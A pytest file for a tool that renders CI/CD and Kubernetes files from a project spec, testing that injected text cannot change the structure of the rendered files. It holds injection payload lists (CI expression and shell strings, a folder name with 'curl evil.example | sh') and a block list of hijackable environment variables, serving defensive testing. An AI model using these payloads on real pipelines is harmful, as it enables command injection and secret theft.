"""Nothing from the spec, or from its path, changes the structure of a rendered file
(issue 9, section 3): folder and file names outside a safe pattern are refused; every
schema pattern must match the whole string; names mlci or the toolchain own are refused
as ci.env keys; and free text (ci.env values, descriptions, commands...) comes out of
every target as the data it was, without a new key, job, line or instruction."""

from __future__ import annotations

import io
import json
import re
import shutil
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

from mlci.schema import load_schema
from tests import judges
from tests.conftest import ROOT, require_tool, run_cli

CREDIT = ROOT / "examples" / "credit-risk"
CI_TARGETS = ("github", "gitlab", "jenkins", "azure")
# What Azure Pipelines expands in any value and cannot escape.
AZURE_EXPRESSION = re.compile(r"\$(\(|\[|\{\{)")

# Text an attacker may put in a free-text field: line breaks of every kind, controls, quotes,
# YAML indicators, and the expression syntaxes of each CI system, Groovy and the shell.
PAYLOADS = [
    "x\npwn: {script: [id]}",
    "cr\rcarriage",
    "crlf\r\n  injected: true",
    "tab\there",
    "line\u2028separator: 1",
    "paragraph\u2029separator",
    "nel\u0085next: line",
    "del\x7fcharacter",
    "c1\x9bcontrol",
    "bom\ufeffinside",
    "bidi\u202eoverride",
    "zero\u200bwidth",
    "${{ github.token }}",
    "${{ secrets.KUBE_CONFIG }} and ${{",
    "$(Build.SourceVersionMessage)",
    "$(id)",
    "$[variables.isDelivery]",
    "${{ variables.x }}",
    "$HOME ${HOME} `id` $(id)",
    "'single' \"double\" \\back\\slash\\",
    "''' triple \"\"\" ${x} $x",
    "trailing backslash \\",
    "# a comment",
    "*alias &anchor !tag %directive @at |block >fold",
    "- item",
    "key: value",
    "{a: b}",
    "[1, 2]",
    "null",
    "true",
    "0x10",
    "~",
    "",
    "::set-output name=x::y",
    "##vso[task.setvariable variable=x]y",
    "\\u000a not an escape",
]
PAYLOAD_IDS = [f"payload{index}" for index in range(len(PAYLOADS))]


def _load_yaml_all(text: str) -> list[Any]:
    return list(YAML(typ="safe").load_all(text))


def _spec_with(folder: Path, change: dict[str, Any]) -> None:
    """Update folder/mlproject.yaml with `change` (dotted keys, list indexes as numbers)."""
    spec_path = folder / "mlproject.yaml"
    spec = YAML(typ="safe").load(spec_path.read_text())
    for dotted, value in change.items():
        *parents, last = dotted.split(".")
        node = spec
        for key in parents:
            node = node[int(key)] if isinstance(node, list) else node.setdefault(key, {})
        node[last] = value
    buffer = io.StringIO()
    YAML(typ="safe").dump(spec, buffer)
    spec_path.write_text(buffer.getvalue(), encoding="utf-8")


def _copy(into: Path, change: dict[str, Any] | None = None) -> Path:
    folder = into / CREDIT.name
    shutil.copytree(CREDIT, folder, ignore=shutil.ignore_patterns("artifacts", "__pycache__"))
    if change:
        _spec_with(folder, change)
    return folder


def _free_text(text: str) -> dict[str, Any]:
    """Every free-text field of the spec that reaches a rendered file, set to `text`."""
    return {
        "project.description": text,
        "model.registry": text or "x",
        "datasets.0.source": text or "x",
        "datasets.0.version": text or "x",
        "training.command": ["python", "train.py", text],
        "serving.command": ["python", "serve.py", text],
        "governance.dpia": text or "x",
        "ci.env": {"GREETING": text, "HF_HUB_OFFLINE": True},
    }


def _shape(node: Any) -> Any:
    """The structure of parsed YAML: keys and list lengths, with every scalar reduced to its type."""
    if isinstance(node, dict):
        return {key: _shape(value) for key, value in node.items()}
    if isinstance(node, list):
        return [_shape(item) for item in node]
    return type(node).__name__


def _rendered(folder: Path) -> dict[str, str]:
    return {
        p.relative_to(folder).as_posix(): p.read_text(encoding="utf-8")
        for p in sorted(folder.rglob("*"))
        if p.is_file()
        and not p.relative_to(folder).as_posix().startswith((".mlci/", "data/", "docs/"))
        and p.suffix not in (".py", ".txt", ".csv", ".md")
        and p.name != "mlproject.yaml"
    }


def _dockerfile_instructions(text: str) -> list[str]:
    """The instructions of a Dockerfile, continuation lines joined, comments and blanks dropped."""
    instructions: list[str] = []
    pending = ""
    for line in text.split("\n"):
        if not pending and (not line.strip() or line.lstrip().startswith("#")):
            continue
        pending += line
        if pending.endswith("\\"):
            pending = pending[:-1]
            continue
        instructions.append(pending)
        pending = ""
    return instructions


def _code_lines(text: str) -> int:
    return sum(1 for line in text.split("\n") if not line.lstrip().startswith(("//", "#")))


_GROOVY_ESCAPE = re.compile(r"\\(u[0-9a-fA-F]{4}|.)")
_GROOVY_SIMPLE = {"n": "\n", "r": "\r", "t": "\t", "b": "\b", "f": "\f", "\\": "\\", "'": "'"}


def _groovy_single_quoted(literal: str) -> str:
    """The value of a Groovy '...' literal (the escapes groovy_string writes)."""
    assert literal.startswith("'") and literal.endswith("'"), literal
    body = literal[1:-1]
    assert "\n" not in body and "\r" not in body
    return _GROOVY_ESCAPE.sub(lambda m: chr(int(m[1][1:], 16)) if m[1].startswith("u") else _GROOVY_SIMPLE[m[1]], body)


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """The reference: the same fields set to a plain word, rendered for every target."""
    folder = _copy(tmp_path_factory.mktemp("clean"), _free_text("plain"))
    result = run_cli("render", str(folder))
    assert result.exit_code == 0, result.stdout + result.stderr
    return _rendered(folder)


@pytest.mark.parametrize("payload", PAYLOADS, ids=PAYLOAD_IDS)
def test_free_text_keeps_every_rendered_file_whole(payload: str, clean: dict[str, str], tmp_path: Path) -> None:
    folder = _copy(tmp_path, _free_text(payload))
    azure_refuses = bool(AZURE_EXPRESSION.search(payload))
    # Argo Workflows evaluates {{...}} wherever it finds it, with no escape: refused at the value too.
    argo_refuses = "{{" in payload
    if argo_refuses:
        refused = run_cli("render", str(folder), "--target", "argo")
        assert refused.exit_code == 2, refused.stdout + refused.stderr
        assert re.search(r"mlproject\.yaml:\d+:\d+: .*Argo Workflows evaluates", refused.stderr), refused.stderr
    if azure_refuses:
        refused = run_cli("render", str(folder))
        assert refused.exit_code == 2, refused.stdout + refused.stderr
        assert "ci.env.GREETING: Azure Pipelines would expand" in refused.stderr
        assert re.search(r"mlproject\.yaml:\d+:\d+: ", refused.stderr), refused.stderr
        assert "Traceback" not in refused.stderr
        assert not (folder / "Dockerfile").exists(), "nothing is written when a value is refused"
    if azure_refuses or argo_refuses:
        # Without the targets that refuse it, the value is data like any other.
        kept = [
            t
            for t in ("github", "gitlab", "jenkins", "azure", "docker", "kubernetes", "argo")
            if not (t == "azure" and azure_refuses) and not (t == "argo" and argo_refuses)
        ]
        result = run_cli("render", str(folder), *[arg for target in kept for arg in ("--target", target)])
    else:
        result = run_cli("render", str(folder))
    assert result.exit_code == 0, result.stdout + result.stderr
    produced = _rendered(folder)
    expected = {
        path: text
        for path, text in clean.items()
        if not (azure_refuses and path == "azure-pipelines.yml") and not (argo_refuses and path.startswith("k8s/argo/"))
    }
    assert produced.keys() == expected.keys()

    for path, text in produced.items():
        if path.endswith((".yml", ".yaml")):
            assert _shape(_load_yaml_all(text)) == _shape(_load_yaml_all(expected[path])), path
        elif path.endswith(".json"):
            assert _shape(json.loads(text)) == _shape(json.loads(expected[path])), path
        elif path.endswith("Dockerfile"):
            got, want = _dockerfile_instructions(text), _dockerfile_instructions(expected[path])
            assert [i.split()[0] for i in got] == [i.split()[0] for i in want], path
        elif path == ".gitattributes":  # the list of generated files: the same files, one line each
            listed = [
                line
                for line in expected[path].splitlines()
                if not (azure_refuses and "azure-pipelines" in line) and not (argo_refuses and "/k8s/argo/" in line)
            ]
            assert text.splitlines() == listed, path
        else:  # Jenkinsfile, .dockerignore: every value on its own line, no line added but comments
            assert _code_lines(text) == _code_lines(expected[path]), path

    # The value round-trips, as data, in every target.
    workflow = _load_yaml_all(produced[".github/workflows/mlci-credit-risk.yml"])[0]
    assert workflow["env"]["GREETING"] == payload.replace("${{", "${{ '${{' }}")
    gitlab = _load_yaml_all(produced[".gitlab-ci.yml"])[0]
    assert gitlab["variables"]["GREETING"] == {"value": payload, "expand": False}
    jenkins_line = next(line for line in produced["Jenkinsfile"].split("\n") if line.strip().startswith("GREETING = "))
    assert _groovy_single_quoted(jenkins_line.strip().removeprefix("GREETING = ")) == payload
    if not azure_refuses:
        assert _load_yaml_all(produced["azure-pipelines.yml"])[0]["variables"]["GREETING"] == payload
    configmap = _load_yaml_all(produced["k8s/base/configmap.yaml"])[0]
    assert configmap["data"]["MLCI_MODEL_REGISTRY"] == (payload or "x")
    appproject = _load_yaml_all(produced["k8s/argocd/appproject.yaml"])[0]
    assert appproject["spec"]["description"] == "mlci project credit-risk" + (f": {payload}" if payload else "")
    deployment = _load_yaml_all(produced["k8s/base/deployment.yaml"])[0]
    command = deployment["spec"]["template"]["spec"]["containers"][0]["command"]
    assert command == ["python", "serve.py", payload.replace("$", "$$")]
    annotations = deployment["metadata"]["annotations"]
    assert json.loads(annotations["mlci.dev/datasets"])[0]["version"] == (payload or "x")
    cmd = next(i for i in _dockerfile_instructions(produced["Dockerfile"]) if i.startswith("CMD "))
    assert json.loads(cmd.removeprefix("CMD ")) == ["python", "serve.py", payload]


@pytest.mark.judges
def test_every_payload_at_once_passes_the_judges(tmp_path: Path) -> None:
    """All the payloads in one spec (those Azure cannot carry left out of it): every judge accepts every file."""
    values = {
        f"VALUE_{index}": payload for index, payload in enumerate(PAYLOADS) if not AZURE_EXPRESSION.search(payload)
    }
    azure_safe = _copy(tmp_path / "all", {**_free_text("multi\nline \u2028 ' \" \\ # $x"), "ci.env": values})
    result = run_cli("render", str(azure_safe))
    assert result.exit_code == 0, result.stdout + result.stderr
    ran = 0
    for kind, files in judges.classify(azure_safe).items():
        for name, tool, judge in judges.JUDGES[kind] if files else []:
            if judges.tool(tool) is None:
                continue
            verdict = judge(files)
            ran += 1
            assert verdict.ok, f"{name}: {verdict.output[-3000:]}"
    if not ran:
        require_tool(None, "actionlint")


# Folder and file names


@pytest.mark.parametrize(
    "folder_name",
    [
        "x\npwn: {script: [id]}",
        "x\nRUN curl evil.example | sh",
        "${{ github.event.pull_request.title }}",
        "$(Build.SourceVersionMessage)",
        "$CI_JOB_TOKEN",
        "with space",
        "-rf",
        "--policies=evil",
        "it's",
        "#hash",
        "star*",
        "back\\slash",
        "line\u2028separator",
        "tab\tname",
        "semi;colon",
        "''' groovy",
    ],
)
def test_a_folder_name_outside_the_safe_pattern_is_refused(folder_name: str, tmp_path: Path) -> None:
    root = tmp_path / "repo"
    root.mkdir()
    project = root / folder_name
    shutil.copytree(CREDIT, project, ignore=shutil.ignore_patterns("artifacts", "__pycache__"))
    result = run_cli("render", str(project), "--out", str(root))
    assert result.exit_code == 2, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    assert f"cannot render with the path {folder_name!a}" in result.stderr
    assert "\n" not in result.stderr.rstrip("\n"), "the refused name must not break the message's line"
    assert sorted(p.name for p in root.iterdir()) == [folder_name], "nothing is written"


def test_a_spec_file_name_outside_the_safe_pattern_is_refused(tmp_path: Path) -> None:
    folder = _copy(tmp_path)
    spec = folder / "my spec.yaml"
    (folder / "mlproject.yaml").rename(spec)
    result = run_cli("render", str(spec))
    assert result.exit_code == 2
    assert "cannot render with the path 'my spec.yaml'" in result.stderr


def test_plain_nested_folder_names_render(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    project = root / "projects" / "credit_risk-v2.0"
    shutil.copytree(CREDIT, project, ignore=shutil.ignore_patterns("artifacts", "__pycache__"))
    result = run_cli("render", str(project), "--out", str(root))
    assert result.exit_code == 0, result.stdout + result.stderr
    assert "projects/credit_risk-v2.0/**" in (root / ".gitlab-ci.yml").read_text()


# The schema


def _patterns(node: Any) -> list[str]:
    if isinstance(node, dict):
        return [p for key, value in node.items() for p in ([value] if key == "pattern" else _patterns(value))]
    if isinstance(node, list):
        return [p for item in node for p in _patterns(item)]
    return []


def test_every_schema_pattern_must_match_the_whole_string() -> None:
    patterns = _patterns(load_schema())
    assert len(patterns) > 20
    for pattern in patterns:
        # `$` alone also matches before a final newline in Python (jsonschema searches with re).
        assert pattern.startswith("^") and pattern.endswith(r"$(?!\n)"), pattern


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("project.name", "credit-risk\n"),
        ("project.owners", ["erin\n"]),
        ("training.requirements", "requirements.txt\n"),
        ("training.requirements", "-r"),
        ("training.schedule", "30 2 * * *\n"),
        ("training.image", "python:3.11-slim\n"),
        ("ci.python_version", "3.11\n"),
        ("ci.mlci_version", "1.0.0\n"),
        ("monitoring.alerts", ["slack:#x\x7f"]),
        ("monitoring.alerts", ["slack:#x\u2028y"]),
        ("environments.0.name", "staging\n"),
    ],
)
def test_a_pattern_field_with_a_trailing_newline_or_control_is_invalid(field: str, value: Any, tmp_path: Path) -> None:
    folder = _copy(tmp_path, {field: value})
    result = run_cli("render", str(folder))
    assert result.exit_code == 2, result.stdout
    assert "is not valid" in result.stdout
    assert not (folder / "Dockerfile").exists()


RESERVED_KEYS = [
    "MLCI_PIP_SPEC",
    "MLCI_SCHEDULE",
    "PIP_INDEX_URL",
    "PIP_EXTRA_INDEX_URL",
    "PIP_CONFIG_FILE",
    "BASH_ENV",
    "ENV",
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "DYLD_INSERT_LIBRARIES",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "PATH",
    "HOME",
    "PS4",
    "NODE_OPTIONS",
    "JAVA_TOOL_OPTIONS",
    "_JAVA_OPTIONS",
    "GIT_SSH_COMMAND",
    "GIT_CONFIG_GLOBAL",
    "CI_COMMIT_BRANCH",
    "CI_PIPELINE_SOURCE",
    "BRANCH_IS_PRIMARY",
    "ACTIONS_ALLOW_UNSECURE_COMMANDS",
    "DOCKER_AUTH_CONFIG",
    "KUBECONFIG",
    "SPEC_FILE",
    "PROJECT_DIR",
    "ISDELIVERY",
    "SYSTEM_ACCESSTOKEN",
    "XDG_CONFIG_HOME",
    "SSL_CERT_FILE",
    "REQUESTS_CA_BUNDLE",
    "HTTPS_PROXY",
    "MLFLOW_TRACKING_URI",
]


@pytest.mark.parametrize("key", RESERVED_KEYS)
def test_reserved_ci_env_keys_are_refused_at_their_line(key: str, tmp_path: Path) -> None:
    folder = _copy(tmp_path, {"ci.env": {key: "value"}})
    result = run_cli("validate", str(folder / "mlproject.yaml"))
    assert result.exit_code == 2, result.stdout
    spec_lines = (folder / "mlproject.yaml").read_text().split("\n")
    env_line = next(n for n, line in enumerate(spec_lines, 1) if line.strip().startswith("env:"))
    assert re.search(rf"mlproject\.yaml:{env_line}:\d+: high schema ci\.env: '{key}' is not valid", result.stdout)


@pytest.mark.parametrize("key", ["HF_HUB_OFFLINE", "OMP_NUM_THREADS", "TOKENIZERS_PARALLELISM", "AWS_DEFAULT_REGION"])
def test_ordinary_ci_env_keys_are_accepted(key: str, tmp_path: Path) -> None:
    folder = _copy(tmp_path, {"ci.env": {key: "1"}})
    result = run_cli("validate", str(folder / "mlproject.yaml"))
    assert result.exit_code == 0, result.stdout


def _variables_mlci_sets(rendered: dict[str, str]) -> set[str]:
    """Every variable name the rendered pipelines define, whatever the level."""
    names: set[str] = set()

    def collect(node: Any) -> None:
        if isinstance(node, dict):
            for key, value in node.items():
                if key in ("env", "variables") and isinstance(value, dict):
                    names.update(value)
                collect(value)
        elif isinstance(node, list):
            for item in node:
                collect(item)

    for path in (".github/workflows/mlci-credit-risk.yml", ".gitlab-ci.yml", "azure-pipelines.yml"):
        collect(_load_yaml_all(rendered[path]))
    for block in re.findall(r"environment \{\n(.*?)\n\s*\}", rendered["Jenkinsfile"], re.S):
        names.update(re.findall(r"^\s*([A-Za-z_][A-Za-z0-9_]*) = ", block, re.M))
    return names


def test_every_variable_the_pipelines_set_is_refused_as_a_ci_env_key(clean: dict[str, str]) -> None:
    names = _variables_mlci_sets(clean) - {"GREETING", "HF_HUB_OFFLINE"}  # the spec's own
    assert {"MLCI_PIP_SPEC", "SPEC_FILE", "KUBE_CONTEXT", "MLCI_IS_RELEASE_TAG"} <= names
    env_names = load_schema()["properties"]["ci"]["properties"]["env"]["propertyNames"]["pattern"]
    accepted = sorted(name for name in names if re.search(env_names, name.upper()))
    assert not accepted, f"ci.env may redefine what the pipelines set: {accepted}"
